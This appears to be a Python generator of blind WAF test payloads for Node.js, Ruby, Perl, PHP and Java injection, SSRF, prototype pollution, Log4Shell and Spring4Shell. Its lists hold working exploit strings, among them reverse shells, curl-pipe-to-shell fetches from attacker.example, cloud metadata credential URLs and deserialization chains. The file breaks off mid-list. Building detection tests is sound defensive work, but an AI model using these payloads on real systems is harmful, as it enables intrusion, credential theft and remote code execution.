"""Blind positive tests for the generic (934), Java (944) and server-side template injection families, written
by a rule author who exploits real stacks: every payload is aimed at one named stack (WordPress, Laravel,
Drupal; Spring, Struts, Tomcat, WebLogic, JBoss, Jenkins; IIS / ASP.NET; Express; Django, Flask; Rails; Go;
Perl and shell CGI) and carried the way that stack's parameters carry it (PHP arrays a[]= and a[b]=, Spring
matrix parameters, Struts OGNL in Content-Type, ASP.NET %u encoding beside __VIEWSTATE, Express qs nested
objects and nested JSON keys, Django form lists, Rails params[user][name] and YAML, WordPress XML-RPC).

Families and sub-families (one per detection title, or per template engine for ssti):
- generic: nodejs-injection (934100, Node.js 1/2), nodejs-injection-2 (Node.js 2/2), ssrf-cloud-metadata,
  ssrf-ip-address, prototype-pollution, ruby-injection, perl-injection, nodejs-dos, php-data-scheme.
- java: java-class-rce (944100), java-process-spawn (944110, CVE-2017-9805), java-serialization-rce (944120,
  CVE-2015-4852), java-suspicious-class (944130), java-magic-bytes (944200), java-magic-bytes-base64 (944210),
  java-serialization-gadget (944240), java-suspicious-method (944250 and the 4.x title of the same name),
  log4shell, java-class-loading, java-script-upload.
- ssti: jinja2, twig, freemarker, velocity, thymeleaf, erb, smarty, handlebars, pug, mako, tornado, nunjucks,
  ejs, go-template, razor, groovy, jakarta-el, django (sub "ssti-<engine>").

Placements: each payload is sent twice, once to one of our routes (query of /api/users, the admin search form
with csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, another header, a parameter name, an XML
body, a multipart field or filename of /admin/users/import, the URL path) and once the way a WAF regression
suite sends it (placements "rs-*": /, /index.php, /get, /post, /search, /api/v1/items or /cgi-bin/test.cgi
with names such as foo, var, x, test, id, arg1, as a query, form, JSON, XML, a raw form-typed body, a header or
a cookie). Raw Java serialization bytes cannot travel in a UTF-8 record body, so they are percent-encoded in
queries, forms and raw form-typed bodies.

Authorship and independence: written from general knowledge of these attacks and from the detection titles
alone; no ruleset, rule regression test, payload list or other blind set was read. Measured once on unchanged
code. Deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
import json
import urllib.parse
from collections.abc import Iterator
from typing import Any, NamedTuple

from .family_gen import UA
from .family_gen_blind_php import chat_and_bio, link_requests, prose_request
from .records import numbered, print_records

NAME = "hundredtwentysecond"


class P(NamedTuple):
    stack: str          # the stack the payload targets
    payload: str
    kind: str = ""      # "" text, "qs" a raw name=value fragment, "bin" raw bytes (latin-1), "file" a filename
    real: str = ""      # placement on our routes (default: rotation)
    rs: str = ""        # regression-suite placement (default: rotation)


def _ser(*parts: str) -> str:
    """A Java serialization stream: magic, version, then the parts (latin-1 characters stand for bytes)."""
    return "\xac\xed\x00\x05" + "".join(parts)


def _cls(name: str) -> str:
    """TC_OBJECT TC_CLASSDESC and a class name with its two-byte length."""
    return "sr\x00" + chr(len(name)) + name


def _b64(raw: str) -> str:
    return base64.b64encode(raw.encode("latin-1")).decode()


def _b64u(raw: str) -> str:
    return base64.b64encode(raw.encode()).decode()


PHP_SHELL = "<?php system($_GET['cmd']); ?>"

# --------------------------------------------------------------------------------------------- generic (934)
NODEJS = [
    P("node-express", "require('child_process').exec('id')"),  # Express eval() calculator
    P("node-express", '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').execSync(\'id\')}()"}',
      real="cookie"),  # node-serialize profile cookie
    P("node-express", "process.mainModule.require('child_process').execSync('cat /etc/passwd')"),  # qs filter
    P("node-express", "global.process.mainModule.constructor._load('child_process').spawnSync('id')"),  # JSON
    P("node-express", "this.constructor.constructor('return process')().mainModule.require('child_process')"
                      ".execSync('id')"),  # vm sandbox escape
    P("node-express", "require('fs').readFileSync('/etc/passwd','utf8')"),  # report template helper
    P("node-express", "require('child_process').spawn('/bin/sh',['-c','id'])"),  # Express JSON rule engine
    P("node-express", "require('child_process').execFile('/usr/bin/id')"),  # query `sort` into eval
    P("node-express", "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id'],"
                      "stdio:[{type:'pipe',readable:1}]})"),  # old Node internal binding
    P("node-express", "new Function('return process')().mainModule.require('child_process').execSync('id')"),
    P("node-express", "require('child_process').fork('/tmp/x.js')"),  # Express upload + eval
    P("node-express", "res.end(require('child_process').execSync('ls -la').toString())"),  # eval in handler
    P("node-express", "require('net').connect(4444,'203.0.113.5',function(){this.pipe(require('child_process')"
                      ".spawn('/bin/sh').stdin)})"),  # reverse shell through eval
]
NODEJS_2 = [
    P("node-express", "eval(Buffer.from('" + _b64u("require('child_process').execSync('id')")
      + "','base64').toString())"),  # Express eval of a JSON field
    P("node-express", "eval(String.fromCharCode(114,101,113,117,105,114,101,40,39,102,115,39,41))"),
    P("node-express", "setTimeout(\"process.exit(1)\",0)"),  # string timer in a scheduling API
    P("node-express", "setInterval('require(\"fs\").unlinkSync(\"/tmp/app.lock\")',1000)"),
    P("node-express", "vm.runInNewContext('this.constructor.constructor(\"return process\")().exit()')"),
    P("node-express", "Function(\"return this.process.env\")()"),  # safe-eval bypass
    P("node-express", "process.kill(process.pid,'SIGKILL')"),
    P("node-express", "module.constructor._load('child_process').exec('id')"),
    P("node-express", "JSON.stringify(process.env)"),  # leak through a formula field
    P("node-express", "Reflect.construct(Function,['return process'])().exit()"),
    P("node-express", "[].constructor.constructor('return process')().exit()"),
    P("node-express", "Object.getPrototypeOf(async function(){}).constructor('return process')()"),
]
SSRF_META = [
    P("python-django", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),  # link preview
    P("python-flask", "http://169.254.169.254/latest/user-data"),  # webhook tester
    P("java-spring", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    P("go", "http://metadata/computeMetadata/v1beta1/project/attributes/ssh-keys?alt=json"),  # Go image proxy
    P("dotnet-iis", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),  # Azure
    P("node-express", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01"
                      "&resource=https://management.azure.com/"),
    P("php-wordpress", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),  # Alibaba
    P("ruby-rails", "http://169.254.169.254/opc/v2/instance/"),  # Oracle Cloud, Rails avatar URL
    P("php-laravel", "http://169.254.169.254/metadata/v1.json"),  # DigitalOcean
    P("java-spring", "http://169.254.170.2/v2/credentials/6e1f7d2a-3b4c-4d5e-8f90-a1b2c3d4e5f6"),  # ECS task
    P("python-flask", "http://[fd00:ec2::254]/latest/meta-data/"),  # AWS IMDS over IPv6
    P("php-drupal", "http://169.254.169.254/openstack/latest/meta_data.json"),  # OpenStack
]
SSRF_IP = [
    P("java-spring", "http://127.0.0.1:8080/actuator/env"),  # RestTemplate fetch of an import URL
    P("python-django", "http://2130706433/admin/"),  # decimal 127.0.0.1
    P("php-wordpress", "http://0177.0.0.1/server-status"),  # octal, WordPress pingback/oEmbed
    P("node-express", "http://0x7f.0x0.0x0.0x1:3000/internal"),  # dotted hex
    P("ruby-rails", "http://0x7f000001:6379/"),  # hex, Rails open-uri
    P("go", "http://[::1]:22/"),  # IPv6 loopback
    P("python-flask", "http://[::ffff:127.0.0.1]:5000/console"),  # IPv4-mapped IPv6
    P("java-tomcat", "http://10.0.0.12:9200/_cat/indices"),  # private address
    P("php-laravel", "gopher://192.168.0.10:6379/_FLUSHALL%0D%0A"),  # gopher to Redis
    P("dotnet-iis", "http://user@192.168.1.1/cgi-bin/luci"),  # userinfo before the address
    P("cgi-perl", "http://017700000001/"),  # whole octal
    P("node-express", "http://127.1:8500/v1/agent/self"),  # short form
]
PP = [
    P("node-express", "__proto__[isAdmin]=true", "qs"),  # qs, extended urlencoded
    P("node-express", "user[__proto__][role]=admin", "qs"),
    P("node-express", "constructor[prototype][isAdmin]=1", "qs"),
    P("node-express", '{"__proto__":{"isAdmin":true}}'),  # JSON body, Object.assign / merge
    P("node-express", '{"profile":{"__proto__":{"polluted":"yes"}}}'),  # lodash.merge
    P("node-express", '{"constructor":{"prototype":{"admin":true}}}'),
    P("node-express", '{"__proto__":{"outputFunctionName":"x;process.mainModule.require(\'child_process\')'
                      '.execSync(\'id\');s"}}'),  # EJS gadget
    P("node-express", "__proto__.isAdmin=true", "qs"),  # dotted deparam
    P("node-express", '{"__proto__":{"block":{"type":"Text","line":"process.mainModule.require(\'child_process\')'
                      '.execSync(\'id\')"}}}'),  # Pug AST gadget
    P("node-express", '{"path":"__proto__.shell","value":"/bin/sh"}'),  # lodash _.set(path, value)
    P("node-express", "settings[constructor][prototype][env][NODE_OPTIONS]=--require=/proc/self/environ", "qs"),
    P("node-express", '{"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(1)//",'
                      '"NODE_OPTIONS":"--require /proc/self/cmdline"}}'),  # child_process.spawn gadget
]
RUBY = [
    P("ruby-rails", "Kernel.system(\"id\")"),  # Rails eval of a params[:sort] value
    P("ruby-rails", "%x(cat /etc/passwd)"),
    P("ruby-rails", "IO.popen(\"uname -a\").read"),
    P("ruby-rails", "open(\"|curl -s http://attacker.example/s.sh | sh\")"),  # Kernel#open pipe (open-uri)
    P("ruby-rails", "Open3.capture2e(\"id\")"),
    P("ruby-rails", "Process.spawn(\"nc -e /bin/sh 203.0.113.5 4444\")"),
    P("ruby-rails", "instance_eval(\"`whoami`\")"),
    P("ruby-rails", "Object.const_get(:Kernel).public_send(:system, \"id\")"),
    P("ruby-rails", "\"#{File.read('/etc/passwd')}\""),  # interpolation into eval'd string
    P("ruby-rails", "--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::DependencyList\n"
                    "  specs:\n  - !ruby/object:Gem::Source::SpecificFile\n    spec: &1 !ruby/object:Gem::"
                    "StubSpecification\n      loaded_from: \"|id 1>&2\"\n", real="xml", rs="rs-raw-body"),  # YAML
    P("ruby-rails", "Kernel.send(:exec, \"/bin/sh -c id\")"),
    P("ruby-rails", "Marshal.load(Base64.decode64(params[:data]))"),  # deserialize a param in eval
]
PERL = [
    P("cgi-perl", "qx{id}"),  # string eval in a Perl CGI
    P("cgi-perl", "qx(cat /etc/passwd)"),
    P("cgi-perl", "`id`"),
    P("cgi-perl", "exec('/bin/sh -i')"),
    P("cgi-perl", "open(my $f, '|-', 'id')"),
    P("cgi-perl", "/bin/ls -la|"),  # two-argument open() on a filename parameter
    P("cgi-perl", "eval(\"system('id')\")"),
    P("cgi-perl", "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));"
                  "connect(S,sockaddr_in(4444,inet_aton('203.0.113.5')));exec('/bin/sh -i');"),
    P("cgi-perl", "@{[ system 'id' ]}"),  # interpolation into an eval'd string
    P("cgi-perl", "${\\ `id` }"),
    P("cgi-perl", "require '/tmp/x.pl'"),
    P("cgi-perl", "print `cat /etc/shadow`"),
]
NODE_DOS = [
    P("node-express", "while(true){}"),  # vm sandbox without timeout
    P("node-express", "for(;;){}"),
    P("node-express", "while(1);"),
    P("node-express", "do{}while(true)"),
    P("node-express", "for(;;)Math.random()"),
    P("node-express", "(function f(){f()})()"),  # recursion
    P("node-express", "while (!![]) {}"),
    P("node-express", "Array(1e9).fill(0)"),  # memory
    P("node-express", "'a'.repeat(2**30)"),
    P("node-express", "new Array(4294967295).join('x')"),
    P("node-express", "process.nextTick(function f(){process.nextTick(f)})"),
    P("node-express", "/(a+)+$/.test('" + "a" * 40 + "!')"),  # ReDoS
]
DATA_B64 = _b64u(PHP_SHELL)
DATA_SCHEME = [
    P("php-wordpress", "data://text/plain;base64," + DATA_B64),  # plugin include($_GET['page'])
    P("php-laravel", "data://text/plain,<?php phpinfo(); ?>"),
    P("php-drupal", "data:text/plain,<?php system('id');?>"),
    P("php-wordpress", "data:;base64," + _b64u("<?php echo shell_exec('id'); ?>")),
    P("php-laravel", "DATA://text/plain;base64," + DATA_B64),
    P("php-wordpress", "data://application/x-httpd-php;base64," + _b64u("<?php passthru('id'); ?>")),
    P("php-drupal", "data://text/html,<?=`id`?>"),
    P("php-laravel", "data:text/plain;charset=utf-8;base64," + _b64u("<?php eval($_POST[1]); ?>")),
    P("php-wordpress", "data://text/plain;base64," + _b64u("<?php file_put_contents('x.php', '"
                                                             + PHP_SHELL + "'); ?>")),
    P("php-laravel", "data://image/jpeg;base64," + _b64u("\xff\xd8\xff\xe0<?php system('id'); ?>")),
    P("php-drupal", "compress.zlib://data:text/plain;base64," + DATA_B64),
    P("php-wordpress", "data:text/plain,<?php readfile('/etc/passwd'); ?>"),
]

# ----------------------------------------------------------------------------------------------- java (944)
CLASS_RCE = [
    P("java-struts", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}", real="header:Content-Type"),
    P("java-spring", "T(java.lang.Runtime).getRuntime().exec('id')"),  # SpEL in a sort expression
    P("java-tomcat", "${java.lang.Runtime.getRuntime().exec('id')}"),  # JSP EL
    P("java-jenkins", "java.lang.Runtime.getRuntime().exec(\"id\").text"),  # Groovy script console
    P("java-weblogic", "new java.lang.ProcessBuilder(new String[]{\"/bin/sh\",\"-c\",\"id\"}).start()"),  # bsh
    P("java-spring", "Java.type('java.lang.Runtime').getRuntime().exec('id')"),  # Nashorn ScriptEngine
    P("java-weblogic", "<java><object class=\"java.lang.Runtime\" method=\"getRuntime\"><void method=\"exec\">"
                       "<string>id</string></void></object></java>", real="xml", rs="rs-xml"),  # XMLDecoder
    P("java-spring", "''.class.forName('java.lang.Runtime').getRuntime().exec('id')"),  # JEXL
    P("java-struts", "(#p=new java.lang.ProcessBuilder({'bash','-c','id'})).(#p.redirectErrorStream(true))"
                     ".(#p.start())"),
    P("java-tomcat", "java.lang.ProcessImpl.start(new String[]{'id'},null,null,null,false)"),
    P("java-jboss", "import java.lang.Runtime; Runtime.getRuntime().exec('id')"),  # MVEL
    P("java-spring", "new java.lang.ProcessBuilder('id').inheritIO().start()"),
]
PROC = ("<next class=\"java.lang.ProcessBuilder\"><command><string>{cmd}</string></command>"
        "<redirectErrorStream>false</redirectErrorStream></next>")
S2_052 = (
    "<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class=\"com.sun.xml.internal."
    "bind.v2.runtime.unmarshaller.Base64Data\"><dataHandler><dataSource class=\"com.sun.xml.internal.ws.encoding"
    ".xml.XMLMessage$XmlDataSource\"><is class=\"javax.crypto.CipherInputStream\"><cipher class=\"javax.crypto."
    "NullCipher\"><initialized>false</initialized><opmode>0</opmode><serviceIterator class=\"javax.imageio.spi."
    "FilterIterator\"><iter class=\"javax.imageio.spi.FilterIterator\"><iter class=\"java.util.Collections$Empty"
    "Iterator\"/>{proc}</iter><filter class=\"javax.imageio.ImageIO$ContainsFilter\"><method><class>java.lang."
    "ProcessBuilder</class><name>start</name><parameter-types/></method><name>foo</name></filter><next class=\""
    "string\">foo</next></serviceIterator><lock/></cipher><input class=\"java.lang.ProcessBuilder$NullInputStream"
    "\"/><ibuffer></ibuffer><done>false</done><ostart>0</ostart><ofinish>0</ofinish><closed>false</closed></is>"
    "<consumed>false</consumed></dataSource><transferFlavors/></dataHandler><dataLen>0</dataLen></value></jdk."
    "nashorn.internal.objects.NativeString><jdk.nashorn.internal.objects.NativeString reference=\"../jdk.nashorn."
    "internal.objects.NativeString\"/></entry></map>")
EVENT_HANDLER = ("<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface>"
                 "<handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command>"
                 "{args}</command></target><action>start</action></handler></dynamic-proxy></sorted-set>")
SPAWN = [
    P("java-struts", S2_052.format(proc=PROC.format(cmd="id")), real="xml", rs="rs-xml"),  # Struts REST plugin
    P("java-struts", S2_052.format(proc=PROC.format(cmd="touch /tmp/pwned")).replace("><", ">\n  <"),
      real="xml", rs="rs-raw-body"),  # pretty-printed, as an exploit script sends it
    P("java-struts", S2_052.format(proc="<next class=\"java.lang.ProcessBuilder\"><command><string>cmd.exe</string>"
                                        "<string>/c</string><string>calc</string></command></next>"),
      real="multipart-field", rs="rs-xml"),  # Windows target
    P("java-jenkins", EVENT_HANDLER.format(args="<string>id</string>"), real="xml", rs="rs-xml"),  # XStream
    P("java-spring", EVENT_HANDLER.format(args="<string>bash</string><string>-c</string><string>curl "
                                              "http://attacker.example/x|sh</string>"),
      real="form", rs="rs-xml"),  # Spring OXM XStream
    P("java-weblogic", "<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:"
                       "Header><work:WorkContext xmlns:work=\"http://bea.com/2004/06/soap/workarea/\"><java><object "
                       "class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"3\"><void "
                       "index=\"0\"><string>/bin/bash</string></void><void index=\"1\"><string>-c</string></void>"
                       "<void index=\"2\"><string>id</string></void></array><void method=\"start\"/></object></java>"
                       "</work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>",
      real="xml", rs="rs-xml"),  # CVE-2017-10271 wls-wsat
    P("java-struts", "<map><entry><jdk.nashorn.internal.objects.NativeString><value class=\"com.sun.xml.internal."
                     "bind.v2.runtime.unmarshaller.Base64Data\"><dataHandler><dataSource class=\"com.sun.xml."
                     "internal.ws.encoding.xml.XMLMessage$XmlDataSource\"><is class=\"java.io.SequenceInputStream\">"
                     "<e class=\"javax.swing.MultiUIDefaults$MultiUIDefaultsEnumerator\"><iterator class=\"javax."
                     "imageio.spi.FilterIterator\"><iter class=\"java.util.ArrayList$Itr\"/><next class=\"java.lang."
                     "ProcessBuilder\"><command><string>id</string></command></next></iterator></e></is>"
                     "</dataSource></dataHandler></value></jdk.nashorn.internal.objects.NativeString></entry></map>",
      real="xml", rs="rs-xml"),  # later XStream chain
    P("java-tomcat", "<java.util.PriorityQueue serialization=\"custom\"><unserializable-parents/><java.util."
                     "PriorityQueue><default><size>2</size><comparator class=\"org.apache.commons.beanutils."
                     "BeanComparator\"><property>outputProperties</property></comparator></default><int>3</int>"
                     "<java.lang.ProcessBuilder><command><string>id</string></command></java.lang.ProcessBuilder>"
                     "</java.util.PriorityQueue></java.util.PriorityQueue>", real="xml", rs="rs-xml"),
    P("java-spring", "<java.lang.ProcessBuilder><command><string>sh</string><string>-c</string><string>id</string>"
                     "</command><redirectErrorStream>true</redirectErrorStream></java.lang.ProcessBuilder>",
      real="json", rs="rs-form"),  # XStream body smuggled in a JSON string field
    P("java-jboss", "<object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\">"
                    "<void index=\"0\"><string>calc.exe</string></void></array><void method=\"start\"/></object>",
      real="xml", rs="rs-xml"),  # XMLDecoder
    P("java-struts", "<map><entry><java.lang.ProcessBuilder><command><string>ping</string><string>-c</string>"
                     "<string>3</string><string>203.0.113.5</string></command></java.lang.ProcessBuilder>"
                     "<string>x</string></entry></map>", real="xml", rs="rs-xml"),
]
CC = "org.apache.commons.collections.functors."
CC4 = "org.apache.commons.collections4.functors."
SER_RCE = [
    P("java-weblogic", _ser(_cls(CC + "InvokerTransformer"), "\x87\xe8\xffk{|\xce8\x02\x00\x03[\x00\x05iArgst\x00"
                            "\x13[Ljava/lang/Object;L\x00\x0biMethodNamet\x00\x12Ljava/lang/String;t\x00\x04exec"
                            "t\x00\x11java.lang.Runtime"), "bin"),  # T3-style stream in a form
    P("java-jboss", "org.apache.commons.collections.functors.ChainedTransformer ConstantTransformer java.lang.Runtime "
                    "InvokerTransformer getMethod getRuntime invoke exec"),  # JMXInvokerServlet strings
    P("java-jenkins", CC + "InvokerTransformer iMethodName exec iArgs java.lang.Runtime"),
    P("java-spring", CC4 + "InstantiateTransformer com.sun.org.apache.xalan.internal.xsltc.trax.TrAXFilter "
                     "java.lang.ProcessBuilder"),  # CommonsCollections3/4
    P("java-weblogic", CC + "InstantiateFactory java.lang.ProcessBuilder start"),
    P("java-tomcat", CC + "CloneTransformer java.lang.Runtime exec"),
    P("java-jboss", CC + "ForClosure iClosure java.lang.Runtime getRuntime"),
    P("java-spring", CC + "WhileClosure iPredicate java.lang.ProcessBuilder"),
    P("java-weblogic", CC + "PrototypeFactory$PrototypeCloneFactory java.lang.Runtime"),
    P("java-jenkins", CC + "PrototypeFactory$PrototypeSerializationFactory java.lang.Runtime exec"),
    P("java-struts", "<org.apache.commons.collections.functors.InvokerTransformer><iMethodName>exec</iMethodName>"
                     "<iParamTypes><java-class>java.lang.String</java-class></iParamTypes><iArgs><string>id</string>"
                     "</iArgs></org.apache.commons.collections.functors.InvokerTransformer><java.lang.Runtime/>",
      real="xml", rs="rs-xml"),  # XStream form of the chain
    P("java-jboss", _ser(_cls("sun.reflect.annotation.AnnotationInvocationHandler"), "U\xca\xf5\x0f\x15\xcb~\xa5",
                         _cls(CC + "ChainedTransformer"), _cls(CC + "InvokerTransformer"),
                         "t\x00\x04exect\x00\x11java.lang.Runtime"), "bin"),  # ysoserial CC1 fragments
]
SUSPICIOUS_CLASS = [
    P("java-spring", '["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://attacker.example:1389/Exploit",'
                     '"autoCommit":true}]'),  # Jackson default typing
    P("java-spring", '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://attacker.example:1099/'
                     'Exploit","autoCommit":true}'),  # Fastjson
    P("java-spring", '{"@type":"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl","_bytecodes":'
                     '["yv66vgAAADIAFQoABQAQBwARCgACABIHABMHABQBAAY8aW5pdD4="],"_name":"a","_tfactory":{},'
                     '"_outputProperties":{}}'),
    P("java-tomcat", '["com.mchange.v2.c3p0.WrapperConnectionPoolDataSource",{"userOverridesAsString":'
                     '"HexAsciiSerializedMap:aced00057372"}]'),
    P("java-struts", "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].getWriter()"
                     ".println('x')}", real="header:Content-Type"),
    P("java-spring", "T(javax.script.ScriptEngineManager).newInstance().getEngineByName('js').eval('1')"),
    P("java-jenkins", "new groovy.lang.GroovyShell().evaluate('\"id\".execute().text')"),
    P("java-tomcat", "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"http://attacker.example/x.jar"
                     "\")}).loadClass(\"Exploit\").newInstance()"),
    P("java-spring", '["org.springframework.context.support.ClassPathXmlApplicationContext",'
                     '"http://attacker.example/spel.xml"]'),  # CVE-2017-17485
    P("java-jboss", "new javax.naming.InitialContext().lookup(\"ldap://attacker.example/x\")"),
    P("java-weblogic", "new bsh.Interpreter().eval(\"exec(\\\"id\\\")\")"),
    P("java-spring", '{"@type":"org.apache.ibatis.datasource.jndi.JndiDataSourceFactory","properties":'
                     '{"data_source":"ldap://attacker.example/x"}}'),
]
MAGIC = [
    P("java-spring", _ser(_cls("java.util.HashMap"), "\x05\x07\xda\xc1\xc3\x16`\xd1\x03\x00\x02F\x00\nloadFactor"
                          "I\x00\tthresholdxp"), "bin"),  # Spring HttpInvoker body
    P("java-tomcat", _ser("t\x00\x04test"), "bin"),  # a bare TC_STRING
    P("java-jboss", _ser("ur\x00\x13[Ljava.lang.Object;\x90\xceX\x9f\x10s)l\x02\x00\x00xp"), "bin"),
    P("java-weblogic", _ser("w\x04\x00\x00\x00\x01"), "bin"),  # block data
    P("java-jboss", _ser(_cls("sun.reflect.annotation.AnnotationInvocationHandler")), "bin"),
    P("java-spring", _ser(_cls("java.util.PriorityQueue"), "\x94\xda0\xb4\xfb?\x82\xb1\x03\x00\x02I\x00\x04size"),
      "bin"),
    P("java-tomcat", _ser(_cls("java.net.URL"), "\x96%76\x1a\xfc\xe4r\x03\x00\x07I\x00\x08hashCode"), "bin"),
    P("java-jenkins", _ser(_cls("java.lang.Integer"), "\x12\xe2\xa0\xa4\xf7\x81\x878\x02\x00\x01I\x00\x05value"),
      "bin"),
    P("java-weblogic", _ser(_cls("javax.management.BadAttributeValueExpException")), "bin"),
    P("java-jboss", _ser(_cls("java.util.Hashtable"), "\x13\xbb\x0f%!J\xe4\xb8\x03\x00\x02F\x00\nloadFactor"),
      "bin"),
    P("java-spring", _ser(_cls("java.rmi.MarshalledObject")), "bin"),
    P("java-tomcat", _ser(_cls("com.sun.rowset.JdbcRowSetImpl")), "bin"),
]
MAGIC_B64 = [
    P("java-tomcat", _b64(MAGIC[0].payload), real="form"),  # JSF javax.faces.ViewState (client state)
    P("java-spring", _b64(MAGIC[1].payload)),
    P("java-jboss", _b64(MAGIC[2].payload)),
    P("java-weblogic", _b64(MAGIC[3].payload), real="cookie"),
    P("java-jenkins", _b64(MAGIC[4].payload)),
    P("java-spring", _b64(MAGIC[5].payload)),
    P("java-tomcat", _b64(MAGIC[6].payload).replace("+", "-").replace("/", "_")),  # base64url token
    P("java-jboss", _b64(MAGIC[8].payload)),
    P("java-weblogic", _b64(MAGIC[9].payload), real="header:X-Api-Version"),
    P("java-spring", _b64(MAGIC[10].payload)),
    P("java-tomcat", _b64(MAGIC[11].payload), real="json"),
]
SER_GADGET = [
    P("java-weblogic", "<java class=\"java.beans.XMLDecoder\"><object class=\"java.io.FileWriter\"><string>servers/"
                       "AdminServer/tmp/_WL_internal/bea_wls_internal/war/x.jsp</string><void method=\"write\">"
                       "<string>ok</string></void><void method=\"close\"/></object></java>",
      real="xml", rs="rs-xml"),  # XMLDecoder + FileWriter
    P("java-spring", "java.lang.System.getProperty(\"user.home\")"),
    P("java-jboss", CC + "InvokerTransformer"),
    P("java-jenkins", CC + "InstantiateTransformer"),
    P("java-weblogic", CC + "InstantiateFactory"),
    P("java-tomcat", CC + "CloneTransformer"),
    P("java-spring", CC + "ForClosure"),
    P("java-jboss", CC + "WhileClosure"),
    P("java-struts", CC + "PrototypeFactory$PrototypeCloneFactory"),
    P("java-jenkins", CC + "PrototypeFactory$PrototypeSerializationFactory"),
    P("java-tomcat", "new java.io.FileWriter(\"/usr/local/tomcat/webapps/ROOT/x.jsp\")"),
    P("java-weblogic", "java.beans.XMLDecoder"),
]
JAVA_METHOD = [
    P("java-spring", "java.lang.Class.forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null)"),
    P("java-tomcat", "${''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null)}"),  # JSP EL
    P("java-spring", "T(java.lang.Thread).sleep(10000)"),  # SpEL time probe
    P("java-struts", "%{@java.lang.System@exit(0)}"),
    P("java-jboss", "java.lang.reflect.Method m=Class.forName(\"java.lang.Runtime\").getDeclaredMethod("
                    "\"getRuntime\");m.setAccessible(true);"),
    P("java-jenkins", "java.lang.Runtime.getRuntime().exec('id').waitFor()"),
    P("java-tomcat", "Thread.currentThread().getContextClassLoader().loadClass(\"java.lang.Runtime\")"),
    P("java-spring", "T(java.lang.ClassLoader).getSystemClassLoader().loadClass('java.lang.ProcessBuilder')"
                     ".getConstructors()[0].newInstance(new String[]{'id'}).start()"),
    P("java-weblogic", "java.lang.Class.forName('java.lang.Runtime').getDeclaredConstructor().newInstance()"),
    P("java-struts", "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime()"
                     ".exec('id'))}"),
    P("java-jboss", "java.lang.invoke.MethodHandles.lookup().findStatic(java.lang.Runtime.class,'getRuntime',"
                    "java.lang.invoke.MethodType.methodType(java.lang.Runtime.class))"),
    P("java-spring", "T(org.springframework.util.ReflectionUtils).findMethod(T(java.lang.Runtime),'exec',"
                     "T(java.lang.String))"),
]
LOG4J = [
    P("java-spring", "${jndi:ldap://attacker.example:1389/a}", real="header:User-Agent"),  # Boot logs the UA
    P("java-tomcat", "${jndi:rmi://attacker.example:1099/obj}"),
    P("java-spring", "${jndi:dns://attacker.example/x}"),
    P("java-jboss", "${jndi:ldaps://attacker.example/x}"),
    P("java-spring", "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://attacker.example/a}"),
    P("java-tomcat", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.example/a}"),
    P("java-struts", "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.example/a}"),
    P("java-spring", "${jndi:ldap://${env:USER}.${sys:java.version}.attacker.example/a}",
      real="header:X-Api-Version"),
    P("java-weblogic", "${${upper:j}ndi:iiop://attacker.example/a}"),
    P("java-jenkins", "${jndi:nis://attacker.example/a}"),
    P("java-spring", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D"),  # percent-encoded in a header
    P("java-tomcat", "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/a}"),
    P("java-spring", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.example/a}"),
]
PIPE = "class.module.classLoader.resources.context.parent.pipeline.first."
CLASS_LOADING = [
    P("java-spring", PIPE + "pattern=%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))", "qs"),
    P("java-spring", PIPE + "suffix=.jsp", "qs"),  # Spring4Shell, CVE-2022-22965
    P("java-spring", PIPE + "directory=webapps/ROOT", "qs"),
    P("java-spring", PIPE + "prefix=tomcatwar", "qs"),
    P("java-spring", PIPE + "fileDateFormat=", "qs"),
    P("java-struts", "class.classLoader.resources.dirContext.docBase=/", "qs"),  # CVE-2014-0094
    P("java-struts", "class['classLoader']['resources']['dirContext']['docBase']=/", "qs"),  # CVE-2014-0112
    P("java-spring", "class.classLoader.URLs[0]=jar:http://attacker.example/spring-exploit.jar!/", "qs"),  # 2010
    P("java-spring", "class.module.classLoader.DefaultAssertionStatus=true", "qs"),  # probe
    P("java-tomcat", "class.module.classLoader.resources.context.configFile=http://attacker.example/x.xml", "qs"),
    P("java-struts", "Class.ClassLoader.Resources.Context.Parent.Pipeline.First.Directory=webapps/ROOT", "qs"),
    P("java-struts", "top.class.classLoader.resources.dirContext.aliases=/x=/etc", "qs"),
]
UPLOAD = [
    P("java-spring", "shell.jsp", "file"),  # Spring MultipartFile saved under its original name
